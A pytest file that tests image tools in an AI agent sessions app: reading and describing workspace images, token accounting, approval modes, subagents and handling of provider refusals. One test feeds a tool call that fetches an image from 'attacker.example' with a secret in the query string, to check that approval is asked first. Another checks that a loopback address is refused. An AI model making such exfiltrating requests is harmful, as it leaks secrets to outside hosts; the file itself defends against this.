"""Images in sessions: read and described by tools, asked about, refused, counted."""

from __future__ import annotations

import json

import pytest
from asgiref.sync import sync_to_async

from sessions_app import runtime
from sessions_app.models import ApprovalRequest, Session
from tests.fakes import Answer, Call, Say, Status
from tests.pictures import picture
from tests.sessions_app.runtime.conftest import Chat
from tests.sessions_app.runtime.image_stories import (
    WIRES,
    images_sent,
    place,
    shown_images,
)
from traces_app import verify
from traces_app.models import Blob
from traces_app.omnimessage.image_data import data_url

pytestmark = pytest.mark.django_db(transaction=True)

PNG = picture("PNG", (37, 21))
URL = data_url(PNG, "image/png")


# Tools


async def test_image_of_the_workspace_is_read_and_kept_once(make_chat):
    chat = await make_chat("allow-all")
    large = picture("PNG", (400, 300), compress_level=0)
    await place(chat, "a.png", large)

    await chat.send('call read_image {"source": "a.png"}')
    await chat.idle()
    await chat.send('call read_image {"source": "a.png"}')
    await chat.idle()

    one, two = await chat.events("tool_call_output")
    assert one.images == two.images == (data_url(large, "image/png"),)
    assert "PNG image, 400 × 300 pixels" in one.output
    assert await Blob.objects.acount() == 1
    assert (await sync_to_async(verify.verify_trace)(chat.id)).is_intact


@pytest.mark.parametrize("wire", WIRES)
async def test_model_is_shown_the_image_a_tool_has_read(make_chat, offer, server, wire):
    await offer()
    server.add(Answer(Call("read_image", {"source": "a.png"})), Answer(Say("Red.")))
    chat = await make_chat("allow-all", model=f"lab-{wire}/eyes")
    await place(chat, "a.png", PNG)

    await chat.send("look")
    await chat.idle()

    first, second = server.requests
    assert shown_images(first) == []
    assert shown_images(second) == [URL]


async def test_description_of_a_vision_model_is_the_output(make_chat, offer, server):
    await offer(vision_model="lab-openai/eyes")
    server.add(Answer(Say("A red square."), tokens=(500, 0, 30)))
    chat = await make_chat("allow-all", model="demo/demo-text")
    await place(chat, "a.png", PNG)

    await chat.send('call describe_image {"source": "a.png", "prompt": "What?"}')
    await chat.idle()

    (output,) = await chat.events("tool_call_output")
    assert output.output == "A red square."
    assert output.images == ()
    (request,) = server.requests
    assert shown_images(request) == [URL]
    assert "What?" in str(request.body["messages"])


async def test_tokens_of_a_description_are_counted_in_the_session(
    make_chat, offer, server
):
    await offer(vision_model="lab-openai/eyes")
    server.add(Answer(Say("A red square."), tokens=(500, 0, 30)))
    chat = await make_chat("allow-all", model="demo/demo-text")
    await place(chat, "a.png", PNG)

    await chat.send('call describe_image {"source": "a.png"}')
    await chat.idle()

    first, described, last = await chat.events("token_usage")
    assert described.model == "lab-openai/eyes"
    assert described.request.total == 530
    assert described.session.total == first.session.total + 530
    assert last.session.total == described.session.total + last.request.total


async def test_without_a_vision_model_the_output_names_the_setting(make_chat):
    chat = await make_chat("allow-all", model="demo/demo-text")
    await place(chat, "a.png", PNG)

    await chat.send('call describe_image {"source": "a.png"}')
    await chat.idle()

    (output,) = await chat.events("tool_call_output")
    assert output.stop_reason == "failed"
    assert "vision_model" in output.output


async def test_demo_model_may_be_the_vision_model(make_chat, offer):
    await offer(vision_model="demo/demo")
    chat = await make_chat("allow-all", model="demo/demo-text")
    await place(chat, "a.png", PNG)

    await chat.send('call describe_image {"source": "a.png", "prompt": "say red"}')
    await chat.idle()

    assert await chat.outputs() == ["red"]


# Approval


async def test_read_only_reads_images_of_the_workspace_without_asking(make_chat):
    chat = await make_chat("read-only")
    await place(chat, "a.png", PNG)

    await chat.send('call read_image {"source": "a.png"}')
    await chat.idle()

    (decision,) = await chat.events("approval_decision")
    assert (decision.decision, decision.source) == ("allow", "mode")


async def test_read_only_describes_images_of_the_workspace_without_asking(
    make_chat, offer
):
    await offer(vision_model="demo/demo")
    chat = await make_chat("read-only", model="demo/demo-text")
    await place(chat, "a.png", PNG)

    await chat.send('call describe_image {"source": "a.png", "prompt": "say red"}')
    await chat.idle()

    assert await chat.outputs() == ["red"]
    assert not await ApprovalRequest.objects.aexists()


async def test_child_that_cannot_see_describes_images_without_asking(make_chat, offer):
    """The parent's mode and the permission in the child's own tools decide."""
    await offer(vision_model="demo/demo")
    chat = await make_chat("read-only", model="demo/demo")
    await place(chat, "a.png", PNG)
    look = 'call describe_image {"source": "a.png", "prompt": "say red"}'
    task = {"prompt": look, "provider": "demo", "model_id": "demo-text"}

    await chat.send(f"call run_subagent {json.dumps(task)}")
    (card,) = await chat.cards()
    assert card.name == "run_subagent"
    await chat.decide(card, "allow")
    await chat.idle()

    child = await Session.objects.aget(parent_id=chat.id)
    (decision,) = await Chat(child, chat.user).events("approval_decision")
    assert (decision.decision, decision.source) == ("allow", "mode")
    assert await Chat(child, chat.user).outputs() == ["red"]
    assert await ApprovalRequest.objects.acount() == 1


@pytest.mark.parametrize(
    ("model", "tool"),
    [("demo/demo", "read_image"), ("demo/demo-text", "describe_image")],
)
async def test_read_only_asks_before_an_unknown_host_is_told_anything(
    make_chat, model, tool
):
    chat = await make_chat("read-only", model=model)

    await chat.send(
        f'call {tool} {{"source": "https://attacker.example/p.png?d=SECRET"}}'
    )
    (card,) = await chat.cards()

    assert "attacker.example, a host the project does not allow" in card.asked_because
    (asked,) = await chat.events("approval_request")
    assert "attacker.example" in asked.asked_because
    assert card.permission == "r"
    await chat.decide(card, "deny")
    await chat.idle()
    assert await chat.outputs() == ["Tool call denied by user."]


async def test_read_only_does_not_ask_for_a_host_the_project_allows(
    make_chat, offer, web
):
    await offer(images={"allowed_hosts": ["127.0.0.1"]})
    chat = await make_chat("read-only")

    await chat.send(f'call read_image {{"source": "{web.serve("/a.png", PNG)}"}}')
    await chat.idle()

    (output,) = await chat.events("tool_call_output")
    assert output.images == (URL,)
    assert not await ApprovalRequest.objects.aexists()


async def test_change_to_read_only_leaves_the_question_about_a_host_open(make_chat):
    chat = await make_chat("always-ask")
    await place(chat, "a.png", PNG)
    await chat.send(
        'call read_image {"source": "http://8.8.8.8/a.png"}\n'
        'call read_image {"source": "a.png"}'
    )
    await chat.cards(2)

    await runtime.set_mode(chat.id, "read-only", user=chat.user)

    (card,) = await chat.cards(1)
    assert "8.8.8.8" in card.arguments
    await chat.decide(card, "deny")
    await chat.idle()


async def test_private_address_is_refused_even_when_a_person_allows_it(make_chat, web):
    chat = await make_chat("always-ask")
    await chat.send(f'call read_image {{"source": "{web.serve("/a.png", PNG)}"}}')
    (card,) = await chat.cards()

    await chat.decide(card, "allow")
    await chat.idle()

    (output,) = await chat.outputs()
    assert "loopback address" in output
    assert web.asked == []


# A provider that does not want an image


@pytest.mark.parametrize("wire", WIRES)
async def test_refused_image_is_left_out_with_a_note_and_the_session_goes_on(
    make_chat, offer, server, wire
):
    await offer()
    words = "messages.0.content.1.image: image exceeds 8000 pixels"
    server.add(
        Status(400, {"error": {"type": "invalid_request_error", "message": words}}),
        Answer(Say("Then without it.")),
        Answer(Say("Still here.")),
    )
    chat = await make_chat(model=f"lab-{wire}/eyes")

    await chat.send("look", images=[URL])
    await chat.idle()
    await chat.send("and now?")
    await chat.idle()

    assert [len(shown_images(request)) for request in server.requests] == [1, 0, 0]
    assert "images were removed" in str(server.requests[1].body["messages"])
    (note,) = [p for p in await chat.events("text") if p.synthetic == "images_removed"]
    assert words in note.text
    assert not await chat.events("abort")
    assert await images_sent(chat) == [URL]  # the record keeps what was sent


@pytest.mark.parametrize("wire", WIRES)
async def test_refused_image_of_a_tool_is_left_out_and_its_words_stay(
    make_chat, offer, server, wire
):
    await offer()
    server.add(
        Answer(Call("read_image", {"source": "a.png"})),
        Status(400, {"error": {"message": "Could not process image"}}),
        Answer(Say("I cannot see it.")),
    )
    chat = await make_chat("allow-all", model=f"lab-{wire}/eyes")
    await place(chat, "a.png", PNG)

    await chat.send("look")
    await chat.idle()

    assert [len(shown_images(request)) for request in server.requests] == [0, 1, 0]
    assert "37 × 21 pixels" in str(server.requests[2].body["messages"])
    texts = [p.text for p in await chat.events("text") if p.role == "assistant"]
    assert texts == ["I cannot see it."]
